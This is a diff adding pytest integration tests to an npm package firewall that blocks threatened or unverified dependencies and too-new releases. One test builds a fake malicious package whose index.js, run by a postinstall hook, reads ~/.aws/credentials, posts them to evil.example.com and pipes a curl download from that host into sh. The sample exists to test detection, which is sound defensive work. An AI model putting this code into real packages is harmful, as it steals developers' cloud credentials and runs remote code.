@@ -5,11 +5,13 @@ transactions, so parallel first downloads queue for the write lock instead of fa
 import dataclasses
 import json
 import subprocess
+from datetime import timedelta
 
 import pytest
+from django.utils import timezone
 
 from accounts.constants import TIER_LIMITS, Tier
-from firewall.services import install_token_create, install_token_revoke
+from firewall.services import firewall_settings_update, install_token_create, install_token_revoke
 from marketplace.models import Verification
 from tests.fakes.servers import FakeNpm, make_targz
 from tests.intel.factories import make_threat
@@ -146,3 +148,50 @@ def test_the_npmrc_that_sigil_firewall_setup_writes_routes_npm_through_the_proxy
     assert result.returncode == 0, result.stdout + result.stderr
     assert _installed(tmp_path, "dep-js") == "1.1.0"
     assert Verification.objects.get(status="verified").source_ref.endswith("dep-js-1.1.0.tgz")
+
+
+def test_a_threatened_transitive_dependency_blocks_the_install_and_is_never_downloaded(live_server, registry,
+                                                                                     alice, tmp_path):
+    # app-js depends on dep-js ^1.0.0, a range that admits the threatened 1.1.0: app-js's own
+    # verification fails it (the marketplace's dependency check, README "Payload in a dependency").
+    threat = make_threat(versions=[("npm", "dep-js", "1.1.0")])
+    result = run_npm(live_server.url, install_token_create(user=alice)[1], "app-js", tmp_path=tmp_path)
+    output = result.stdout + result.stderr
+    assert result.returncode != 0 and "403 Blocked by Sigil: failed verification" in output, output
+    parent = Verification.objects.get(source_ref__endswith="app-js-1.0.0.tgz")
+    assert parent.status == "failed" and threat.reference in str(parent.details.get("dependency_threats")), output
+    assert not [r for r in registry.requests if r["path"].endswith("dep-js-1.1.0.tgz")]
+    assert _installed(tmp_path, "app-js") is None and _installed(tmp_path, "dep-js") is None
+
+
+def test_a_dependency_failing_verification_is_refused(live_server, registry, alice, tmp_path):
+    from django.core.management import call_command
+
+    call_command("load_signature_pack", verbosity=0)
+    evil = ("const fs = require('fs'), os = require('os'), https = require('https');\n"
+            "const data = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
+            "const req = https.request({hostname: 'evil.example.com', path: '/collect', method: 'POST'});\n"
+            "req.write(Buffer.from(data).toString('base64')); req.end();\n"
+            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"
+            "require('child_process').exec('curl https://evil.example.com/x.sh | sh');\n")
+    pkg = {"name": "dep-js", "version": "1.1.0", "main": "index.js",
+           "scripts": {"postinstall": "node index.js"}}
+    registry.packages["dep-js"]["versions"]["1.1.0"] = make_targz(
+        {"package.json": json.dumps(pkg), "index.js": evil}, root="package")
+    result = run_npm(live_server.url, install_token_create(user=alice)[1], "app-js", tmp_path=tmp_path)
+    output = result.stdout + result.stderr
+    verification = Verification.objects.get(source_ref__endswith="dep-js-1.1.0.tgz")
+    assert verification.status == "failed", (verification.status, verification.verdict, verification.error)
+    assert result.returncode != 0 and "Blocked by Sigil" in output and verification.public_id in output, output
+    assert _installed(tmp_path, "dep-js") is None
+
+
+def test_min_release_age_hides_a_too_new_version(live_server, registry, alice, tmp_path):
+    now = timezone.now()
+    registry.packages["dep-js"]["times"] = {"1.0.0": (now - timedelta(days=30)).isoformat(),
+                                            "1.1.0": (now - timedelta(hours=1)).isoformat()}
+    firewall_settings_update(user=alice, min_release_age_hours=48)
+    result = run_npm(live_server.url, install_token_create(user=alice)[1], "dep-js", tmp_path=tmp_path)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert _installed(tmp_path, "dep-js") == "1.0.0"
+    assert not [r for r in registry.requests if r["path"].endswith("dep-js-1.1.0.tgz")]
